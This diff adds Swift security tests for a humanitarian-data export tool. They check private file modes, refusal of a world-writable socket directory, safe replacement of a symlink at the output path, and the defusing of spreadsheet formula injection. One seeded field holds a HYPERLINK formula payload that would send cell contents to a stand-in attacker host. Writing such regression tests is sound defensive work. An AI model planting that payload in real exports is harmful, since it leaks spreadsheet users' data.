@@ -57,6 +57,103 @@ import Testing
     }
 }
 
+extension ExportCommandTests {
+    /// A figure whose free text is a spreadsheet formula, registered through corridorctl.
+    private func seedFormulaFigure(_ server: InProcessServer) async throws {
+        let socket = ["--socket", server.socketPath]
+        let setup = [
+            ["party", "add", "sarc", "--short-name", "SARC", "--kind", "red-cross-red-crescent"],
+            ["site", "add", "douma", "--name", "Douma", "--kind", "city"],
+            ["figure", "report", "--subject-kind", "site", "--subject", "douma", "--measure", "trapped", "--value", "500",
+             "--as-of", "2018-02-01", "--source", "sarc", "--reported-in", "@briefing",
+             "--note", #"=HYPERLINK("http://evil.example/?"&K3,"details")"#],
+        ]
+        for arguments in setup {
+            let run = try await CorridorctlRun.launch(arguments + socket)
+            #expect(run.status == 0, "\(arguments): \(run.stderr)")
+        }
+    }
+
+    private static func mode(_ path: String) -> mode_t? {
+        var status = stat()
+        return lstat(path, &status) == 0 ? status.st_mode : nil
+    }
+
+    // Issue 8, finding 5: exports were 0644 and free text ran as a formula.
+    @Test func anExportFileIsPrivateAndItsFormulasDefusedAndLibhxlValidatesIt() async throws {
+        let server = try await InProcessServer.startWithRegistry()
+        try await seedFormulaFigure(server)
+        let path = server.directory + "/figures.csv"
+        let run = try await CorridorctlRun.launch(["export", "figures", "--output", path, "--socket", server.socketPath])
+        #expect(run.status == 0, "\(run.stderr)")
+        #expect(Self.mode(path).map { $0 & 0o7777 } == 0o600)
+        let text = (try? String(contentsOfFile: path, encoding: .utf8)) ?? ""
+        #expect(text.contains(#""'=HYPERLINK(""http://evil.example/?""&K3,""details"")""#), "\(text)")
+        #expect(text.contains(",'@briefing,"), "\(text)")
+        #expect(text.contains(",500,"), "\(text)")
+        let check = try await runHXLCheck(["figures=\(path)"])
+        await server.stop()
+        #expect(check.status == 0, "\(check.output)")
+    }
+
+    // Issue 8, finding 3: the default socket's directory (/tmp/corridor-UID
+    // without XDG_RUNTIME_DIR) may have been made by someone else first.
+    @Test func aDefaultSocketInADirectoryOthersMayWriteIsRefusedBeforeConnecting() async throws {
+        let server = try await InProcessServer.startWithRegistry()
+        let runtime = server.directory + "/xdg"
+        let directory = runtime + "/corridor"
+        #expect(mkdir(runtime, 0o700) == 0 && mkdir(directory, 0o700) == 0)
+        #expect(symlink(server.socketPath, directory + "/corridord.sock") == 0)
+        let environment = ["XDG_RUNTIME_DIR": runtime]
+
+        #expect(chmod(directory, 0o777) == 0)
+        let refused = try await CorridorctlRun.launch(["export", "figures"], environment: environment)
+        #expect(chmod(directory, 0o700) == 0)
+        let served = try await CorridorctlRun.launch(["export", "figures"], environment: environment)
+        await server.stop()
+        #expect(refused.status != 0)
+        #expect(refused.stderr.contains("PERMISSION_DENIED: refusing to connect to \(directory)/corridord.sock"), "\(refused.stderr)")
+        #expect(refused.stderr.contains("mode 0777"), "\(refused.stderr)")
+        #expect(refused.stdout.isEmpty)
+        #expect(served.status == 0, "\(served.stderr)")
+    }
+
+    @Test func groupReadableMakesTheExport0640() async throws {
+        let server = try await InProcessServer.startWithRegistry()
+        let path = server.directory + "/figures.json"
+        let run = try await CorridorctlRun.launch(["export", "figures", "--format", "json", "--output", path, "--group-readable", "--socket", server.socketPath])
+        let withoutOutput = try await CorridorctlRun.launch(["export", "figures", "--group-readable", "--socket", server.socketPath])
+        let mode = Self.mode(path)
+        await server.stop()
+        #expect(run.status == 0, "\(run.stderr)")
+        #expect(mode.map { $0 & 0o7777 } == 0o640)
+        #expect(withoutOutput.status != 0)
+        #expect(withoutOutput.stderr.contains("--group-readable"), "\(withoutOutput.stderr)")
+    }
+
+    @Test func aSymbolicLinkAtTheOutputIsReplacedNotWrittenThrough() async throws {
+        let server = try await InProcessServer.startWithRegistry()
+        let victim = server.directory + "/victim.txt"
+        try "precious".write(toFile: victim, atomically: true, encoding: .utf8)
+        let path = server.directory + "/figures.csv"
+        #expect(symlink(victim, path) == 0)
+        let run = try await CorridorctlRun.launch(["export", "figures", "--output", path, "--socket", server.socketPath])
+        let existing = server.directory + "/old.csv"
+        try "old".write(toFile: existing, atomically: true, encoding: .utf8)
+        #expect(chmod(existing, 0o644) == 0)
+        let over = try await CorridorctlRun.launch(["export", "figures", "--output", existing, "--socket", server.socketPath])
+        #expect(run.status == 0, "\(run.stderr)")
+        #expect((try? String(contentsOfFile: victim, encoding: .utf8)) == "precious")
+        #expect(Self.mode(path).map { $0 & S_IFMT } == S_IFREG)
+        #expect(Self.mode(path).map { $0 & 0o7777 } == 0o600)
+        #expect(over.status == 0, "\(over.stderr)")
+        // A file that was there is replaced by a private one, not rewritten with its old mode.
+        #expect(Self.mode(existing).map { $0 & 0o7777 } == 0o600)
+        #expect((try? String(contentsOfFile: existing, encoding: .utf8))?.hasPrefix("Figure ID") == true)
+        await server.stop()
+    }
+}
+
 /// Runs Tests/Interop/hxl_check.py (needs python3 and libhxl), waiting on a
 /// thread of its own rather than one of the threads async tests share.
 func runHXLCheck(_ arguments: [String]) async throws -> (status: Int32, output: String) {
